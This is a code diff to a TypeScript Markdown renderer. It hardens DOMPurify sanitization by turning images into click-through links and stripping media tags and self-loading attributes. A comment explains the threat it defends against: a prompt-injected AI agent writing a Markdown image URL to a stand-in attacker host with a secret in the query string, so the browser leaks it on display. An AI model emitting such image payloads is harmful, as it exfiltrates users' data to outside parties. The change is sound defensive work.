@@ -2,15 +2,46 @@
 // not plain HTML is removed by DOMPurify (scripts, event handlers, javascript:
 // and other unsafe URLs, forms, styles). Links open in a new tab without the
 // page's opener or referrer.
+//
+// Nothing in a message is fetched without a click: an agent steered by text it
+// was given could otherwise leak what it knows by writing
+// `![x](https://evil.example/?d=<secret>)`, which the browser would load as
+// soon as the message is shown. So an image (Markdown or HTML) becomes a link
+// to it showing its alt text, media elements are removed, and so are the
+// attributes that load a URL by themselves (`srcset`, `poster`, `background`).
+// The page's Content-Security-Policy (img-src 'self') is the second line.
 import DOMPurify from 'dompurify';
 import { marked } from 'marked';
 
 DOMPurify.addHook('afterSanitizeAttributes', (node) => {
-  if (node.tagName === 'A' && node.hasAttribute('href')) {
-    node.setAttribute('target', '_blank');
-    node.setAttribute('rel', 'noopener noreferrer nofollow');
-  }
+  if (node.tagName === 'A' && node.hasAttribute('href')) openInNewTab(node);
+  // The image's attributes are sanitized by now: its src is a safe URL, or gone.
+  if (node.tagName === 'IMG') node.replaceWith(imageAsLink(node));
 });
+
+function openInNewTab(link: Element): void {
+  link.setAttribute('target', '_blank');
+  link.setAttribute('rel', 'noopener noreferrer nofollow');
+}
+
+/**
+ * A link to the image labelled with its alt text (or its URL). Inside a link,
+ * or when it has no URL worth opening (a data: URL), only the label is left.
+ */
+function imageAsLink(image: Element): Node {
+  const document = image.ownerDocument;
+  const src = image.getAttribute('src')?.trim() ?? '';
+  const linkable = src !== '' && !/^data:/i.test(src);
+  const label = image.getAttribute('alt')?.trim() || (linkable ? src : '') || 'image';
+  if (!linkable || image.parentElement?.closest('a')) return document.createTextNode(label);
+  const link = document.createElement('a');
+  link.setAttribute('href', src);
+  const title = image.getAttribute('title');
+  if (title) link.setAttribute('title', title);
+  link.textContent = label;
+  openInNewTab(link);
+  return link;
+}
 
 const rendered = new WeakMap<object, string>();
 
@@ -18,8 +49,20 @@ export function renderMarkdown(text: string): string {
   const html = marked.parse(text, { async: false, gfm: true, breaks: true });
   return DOMPurify.sanitize(html, {
     USE_PROFILES: { html: true },
-    FORBID_TAGS: ['style', 'form', 'input', 'button', 'textarea', 'select', 'iframe'],
-    FORBID_ATTR: ['style'],
+    FORBID_TAGS: [
+      'style',
+      'form',
+      'input',
+      'button',
+      'textarea',
+      'select',
+      'iframe',
+      'audio',
+      'video',
+      'source',
+      'track',
+    ],
+    FORBID_ATTR: ['style', 'srcset', 'poster', 'background'],
   });
 }
 
